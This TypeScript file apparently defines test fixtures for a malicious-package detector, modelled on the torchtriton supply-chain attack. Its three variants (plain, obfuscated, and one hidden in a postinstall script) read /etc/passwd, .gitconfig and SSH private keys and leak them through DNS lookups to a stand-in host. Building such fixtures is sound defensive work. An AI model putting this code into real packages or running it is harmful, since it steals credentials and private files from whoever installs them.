import { type Campaign, entry, escapes, scripted } from './kit.ts';

export const campaign: Campaign = {
  id: 'torchtriton',
  row: 'torchtriton 12/2022 (npm kin: names and files in DNS)',
  variants: [
    {
      concealment: 'plain',
      files: entry(`const fs = require('fs'), os = require('os'), dns = require('dns');
const data = ['/etc/passwd', os.homedir() + '/.gitconfig', os.homedir() + '/.ssh/id_rsa'].map((f) => { try { return fs.readFileSync(f, 'utf8'); } catch { return ''; } }).join('');
const text = Buffer.from(data).toString('hex');
for (let i = 0; i < text.length; i += 50) dns.lookup(text.slice(i, i + 50) + '.h4ck.weir.test', () => {});
module.exports = {};
`),
    },
    {
      concealment: 'obfuscated',
      files: entry(`var f = require('f' + 's'), q = '${escapes('/etc/passwd')}';
var r = require('${escapes('dns')}')['${escapes('resolve')}'];
r(f['${escapes('readFileSync')}'](q)['toString']('hex').slice(0, 60) + '${escapes('.h4ck.weir.test')}', function () {});
module.exports = {};
`),
    },
    {
      concealment: 'moved',
      files: scripted(
        { postinstall: 'sh scripts/check.sh' },
        {
          'scripts/check.sh': `#!/bin/sh\nfor part in $(cat /etc/passwd | xxd -p | fold -w 60); do\n  nslookup $part.h4ck.weir.test\ndone\n`,
        },
      ),
    },
  ],
};
